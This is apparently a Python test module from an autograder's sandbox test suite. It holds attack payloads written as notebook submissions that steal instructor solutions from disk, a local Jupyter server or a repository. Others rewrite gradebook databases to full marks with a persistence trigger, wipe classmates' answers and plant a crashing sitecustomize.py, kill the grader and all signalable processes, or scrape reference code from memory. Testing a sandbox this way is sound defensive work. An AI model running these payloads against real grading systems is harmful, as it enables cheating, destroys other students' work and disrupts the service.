"""Attacks on what lies outside the student's process: the course's files, the gradebook, classmates, the grader.

Under stock nbgrader a notebook runs in ``autograded/STUDENT/ASSIGNMENT/`` of the course, as the
instructor's user, with the network up: every one of these would work there. In the sandbox none
of them finds anything to read, write, reach or kill, so each is graded like its baseline.
"""

from __future__ import annotations

from autograder.engine.results import Status
from tests.jail.attacks.answers import REFERENCE, STUB, WRONG
from tests.jail.attacks.model import T1, T2, Attack, Submission, appended, prepended

GRADED = frozenset({Status.GRADED})
"""The stub's status: nothing written, nothing to grade by hand."""
NEEDS_MANUAL = frozenset({Status.NEEDS_MANUAL})
"""The status of a submission with written answers that ran normally."""

FIND_COURSE = """
import glob
import json
import os
from pathlib import Path


def _places():
    \"\"\"The working directory, home, every path in the environment, and all the folders above them.\"\"\"
    starts = [Path.cwd(), Path.home()]
    for value in os.environ.values():
        starts += [Path(p) for p in value.split(os.pathsep) if p.startswith("/")]
    places = []
    for start in starts:
        for folder in [start, *start.parents]:
            if folder not in places:
                places.append(folder)
    return places


def _notebooks():
    \"\"\"Instructor notebooks, and classmates' submitted or graded ones, anywhere near.\"\"\"
    patterns = ["source/*/*.ipynb", "*/source/*/*.ipynb", "submitted/*/*/*.ipynb", "autograded/*/*/*.ipynb"]
    found = []
    for place in _places():
        for pattern in patterns:
            found += glob.glob(str(place / pattern))
    return found
"""

STEAL_SOLUTIONS = """
def _solutions():
    \"\"\"grade_id -> the instructor's code (from source/), else a classmate's, for every code answer found.\"\"\"
    cells = {}
    for path in sorted(_notebooks(), key=lambda p: "/source/" not in p):
        try:
            notebook = json.loads(Path(path).read_text())
        except (OSError, ValueError):
            continue
        for cell in notebook.get("cells", []):
            meta = cell.get("metadata", {}).get("nbgrader", {})
            source = "".join(cell.get("source", ""))
            if meta.get("solution") and cell.get("cell_type") == "code" and "NotImplementedError" not in source:
                cells.setdefault(meta.get("grade_id"), source)
    return cells


_STOLEN = _solutions()


def _steal(grade_id):
    \"\"\"Replace this cell's stub with the code found for it, if any.\"\"\"
    if grade_id in _STOLEN:
        exec(_STOLEN[grade_id], globals())
"""

IMPORT_SOLUTIONS = """
import importlib
import sys
from pathlib import Path

for _folder in [Path.cwd(), *Path.cwd().parents]:
    sys.path.append(str(_folder))  # the course root, with solutions/ in it, is somewhere up there

_SLIDERS = {
    "plot_quad_gradients": dict(a=1.1, b=1.1, c=1.1),
    "plot_triple_relu": dict(m1=-1.5, b1=-1.5, m2=1.5, b2=1.5, m3=1.5, b3=1.5),
}


def _take(*names):
    \"\"\"The instructor's versions of these names, from `solutions.week3` (with their sliders), if it imports.\"\"\"
    try:
        reference = importlib.import_module("solutions.week3")
    except Exception:
        return
    for name in names:
        value = getattr(reference, name)
        globals()[name] = interact(**_SLIDERS[name])(value) if name in _SLIDERS else value
"""

FETCH_SOLUTIONS = """
import json
import urllib.request

_URLS = [
    *(f"http://127.0.0.1:{port}/api/contents/source/week3/{{}}.ipynb?content=1" for port in (8888, 8889, 8890)),
    "https://raw.githubusercontent.com/nn-foundations/course/main/source/week3/{}.ipynb",
]


def _fetch(notebook):
    \"\"\"The instructor's notebook from a Jupyter server on this machine or the course's repository.\"\"\"
    for url in _URLS:
        try:
            with urllib.request.urlopen(url.format(notebook), timeout=3) as response:
                data = json.loads(response.read())
            return data.get("content", data)
        except Exception:
            continue
    return None


def _steal(notebook, grade_id):
    found = _fetch(notebook) or {}
    for cell in found.get("cells", []):
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
            exec("".join(cell["source"]), globals())
"""

REWRITE_GRADEBOOK = """
import contextlib
import glob
import os
import sqlite3
from pathlib import Path

_FULL_MARKS = \"\"\"
UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id),
                 manual_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id),
                 needs_manual_grade = 0;
CREATE TRIGGER IF NOT EXISTS keep_full_marks AFTER UPDATE ON grade
WHEN NEW.auto_score IS NOT (SELECT max_score FROM grade_cells WHERE grade_cells.id = NEW.cell_id)
BEGIN
    UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = NEW.cell_id)
    WHERE id = NEW.id;
END;
\"\"\"


def _gradebooks():
    \"\"\"gradebook.db three levels up (autograded/STUDENT/ASSIGNMENT), above, in the environment, near /.\"\"\"
    found = {"../../../gradebook.db", *glob.glob("/*/gradebook.db"), *glob.glob("/*/*/gradebook.db")}
    found.update(str(folder / "gradebook.db") for folder in [Path.cwd(), *Path.cwd().parents])
    for value in os.environ.values():
        found.update(str(Path(p) / "gradebook.db") for p in value.split(os.pathsep) if p.startswith("/"))
    for top in ("/tmp", "/home", "/srv", "/work", "/var", "/root"):
        for folder, dirs, files in os.walk(top):
            dirs[:] = [d for d in dirs if d not in ("site-packages", ".git", "node_modules") and folder.count("/") < 7]
            found.update(os.path.join(folder, f) for f in files if f == "gradebook.db")
    return sorted(p for p in found if os.path.isfile(p))


for _path in _gradebooks():
    with contextlib.suppress(Exception), sqlite3.connect(_path, timeout=5) as _db:
        _db.executescript(_FULL_MARKS)

try:  # a course with its gradebook in PostgreSQL on this machine
    import psycopg2

    with psycopg2.connect(host="127.0.0.1", user="postgres", dbname="nbgrader", connect_timeout=3) as _pg:
        _pg.cursor().execute(_FULL_MARKS.split("CREATE TRIGGER")[0])
except Exception:
    pass
"""

WIPE_CLASSMATES = """
import glob
import json
import os
from pathlib import Path

_mine = Path.cwd().resolve()
_targets = set()
for _pattern in (
    "../../*/week3/*.ipynb",  # autograded/OTHER/week3: classmates graded before me
    "../../../submitted/*/week3/*.ipynb",  # their submissions, graded after me
    "../../../autograded/*/week3/*.ipynb",
    "../*/*.ipynb",
    "/tmp/*/*.ipynb",
    "/tmp/*/*/*.ipynb",
    "/proc/*/cwd/*.ipynb",  # other notebooks being graded right now
    "/proc/1/root/tmp/*/*/*.ipynb",
):
    _targets.update(glob.glob(_pattern))
for _top in ("/tmp", "/home", "/srv", "/work", "/var", "/root"):
    for _folder, _dirs, _files in os.walk(_top):
        _dirs[:] = [d for d in _dirs if d not in ("site-packages", ".git") and _folder.count("/") < 7]
        _targets.update(os.path.join(_folder, f) for f in _files if f.endswith(".ipynb") and "submitted" in _folder)

for _path in sorted(_targets):
    try:
        if Path(_path).resolve().parent == _mine:
            continue
        _notebook = json.loads(Path(_path).read_text())
        for _cell in _notebook["cells"]:
            if _cell.get("metadata", {}).get("nbgrader", {}).get("solution") and _cell["cell_type"] == "code":
                _cell["source"] = "raise NotImplementedError()\\n"  # their answers are gone
        Path(_path).write_text(json.dumps(_notebook))
        Path(_path).with_name("sitecustomize.py").write_text("import os; os._exit(1)\\n")
    except Exception:
        pass
"""

KILL_THE_GRADER = """
import contextlib
import os
import signal

# The process that runs this notebook, the one above it, and everything else this user may signal.
_parent = os.getppid()
for _pid, _signal in ((_parent, signal.SIGSTOP), (_parent, signal.SIGKILL), (1, signal.SIGKILL), (-1, signal.SIGKILL)):
    with contextlib.suppress(OSError):
        os.kill(_pid, _signal)
"""


TAKE_REFERENCES = """
import gc
import sys


def _find_references():
    \"\"\"Every function source the grader's job carries: up the call stack (the probe schedule, the request) and
    in every container the garbage collector knows of (the zygote's memory, which this process starts from).\"\"\"
    found = {}
    seen = set()

    def visit(value, depth):
        if depth > 8 or id(value) in seen:
            return
        seen.add(id(value))
        if isinstance(value, str):
            text = value.lstrip()
            if text.startswith("def ") and "(" in text and "_plant" not in text:
                found.setdefault(text[4:].split("(", 1)[0].strip(), value)
        elif isinstance(value, dict) and "cell_type" not in value:  # the notebook's own cells are no answer
            for item in list(value.values()):
                visit(item, depth + 1)
        elif isinstance(value, (list, tuple)):
            for item in list(value):
                visit(item, depth + 1)
        elif isinstance(getattr(value, "probes", None), list):  # the probe schedule
            visit(value.probes, depth + 1)

    frame = sys._getframe(1)
    while frame is not None:
        visit(dict(frame.f_locals), 0)
        frame = frame.f_back
    for item in gc.get_objects():
        if type(item) is dict and ("substitute" in item or "references" in item or "probes" in item):
            visit(item, 0)
    return found


def _plant():
    \"\"\"Define as this notebook's own every function of the lab whose reference source can be found now.\"\"\"
    for name, source in _find_references().items():
        if name in ("gradient_sentences", "triple_relu", "linear", "triple_linear", "gradient_descent"):
            exec(source, globals())
"""


def with_call(stub: str, call: str) -> str:
    """A stub cell with ``call`` after it (before it, if the stub raises at the top level and would stop it)."""
    return call + "\n" + stub if stub.startswith("# YOUR CODE HERE") else stub + "\n" + call + "\n"


def stub_then(helper: str, call: str) -> dict[str, dict[str, str]]:
    """Every code answer a stub with ``call`` (formatted with ``notebook`` and ``grade_id``), and ``helper`` at
    the top of the first answer of each notebook."""
    answers = {
        stem: {gid: with_call(src, call.format(notebook=stem, grade_id=gid)) for gid, src in cells.items()}
        for stem, cells in STUB.items()
    }
    return prepended(prepended(answers, T1, "gradient_sentences", helper), T2, "triple_relu", helper)


NAMES = {
    "gradient_sentences": ("gradient_sentences",),
    "plot_quad_gradients": ("plot_quad_gradients",),
    "gradient_descent": ("gradient_descent",),
    "triple_relu": ("triple_relu",),
    "plot_triple_relu": ("plot_triple_relu",),
    "triple_relu_fit": ("triple_relu_fit",),
    "linear_swap": ("linear", "triple_linear", "equivalent_line"),
}
"""The names each solution cell defines."""


def import_everything() -> dict[str, dict[str, str]]:
    """Every code answer a stub, followed by taking the names it defines from ``solutions.week3``."""
    answers = {
        stem: {gid: with_call(src, f"_take({', '.join(map(repr, NAMES[gid]))})") for gid, src in cells.items()}
        for stem, cells in STUB.items()
    }
    return prepended(
        prepended(answers, T1, "gradient_sentences", IMPORT_SOLUTIONS), T2, "triple_relu", IMPORT_SOLUTIONS
    )


ATTACKS = [
    Attack(
        "execs_solutions_found_on_disk",
        "searches up from the working directory and every path in the environment for source/*/*.ipynb (and "
        "classmates' notebooks) and execs the solution cells found there; stubs otherwise",
        Submission(base="stub", answers=stub_then(FIND_COURSE + "\n\n" + STEAL_SOLUTIONS, "_steal({grade_id!r})")),
        "stub",
        GRADED,
    ),
    Attack(
        "takes_the_references_from_the_probes",
        "walks its call stack to the probe schedule and searches every object it can reach for the reference "
        "sources a later check swaps in (gradient_sentences, triple_relu, linear), and defines them as its own "
        "after every cell; stubs otherwise (8 of 29, status graded, when the job carried them)",
        Submission(base="stub", answers=stub_then(TAKE_REFERENCES, "_plant()")),
        "stub",
        GRADED,
    ),
    Attack(
        "imports_the_solutions_package",
        "puts every folder above the working directory on sys.path and takes its answers from solutions.week3",
        Submission(base="stub", answers=import_everything()),
        "stub",
        GRADED,
    ),
    Attack(
        "fetches_solutions_over_the_network",
        "downloads the instructor's notebooks from a Jupyter server on 127.0.0.1 or the course's repository",
        Submission(base="stub", answers=stub_then(FETCH_SOLUTIONS, "_steal({notebook!r}, {grade_id!r})")),
        "stub",
        GRADED,
    ),
    Attack(
        "rewrites_the_gradebook",
        "opens ../../../gradebook.db and every gradebook.db it can find (and a local PostgreSQL) and sets every "
        "score to full marks, with a trigger that puts them back after each update; wrong answers",
        Submission(answers=appended(WRONG, T2, "linear_swap", REWRITE_GRADEBOOK)),
        "wrong",
        NEEDS_MANUAL,
    ),
    Attack(
        "wipes_classmates_notebooks",
        "finds classmates' notebooks (../../OTHER/week3, ../../../submitted/*/week3, /tmp, /proc/*/cwd) and "
        "replaces their answers with stubs, planting a sitecustomize.py next to them",
        Submission(answers=appended(REFERENCE, T1, "gradient_sentences", WIPE_CLASSMATES)),
        "reference",
        NEEDS_MANUAL,
    ),
    Attack(
        "kills_the_grader",
        "stops and kills its parent process, pid 1 and every process it may signal (kill -1)",
        Submission(answers=appended(REFERENCE, T1, "gradient_sentences", KILL_THE_GRADER)),
        "reference",
        NEEDS_MANUAL,
    ),
]
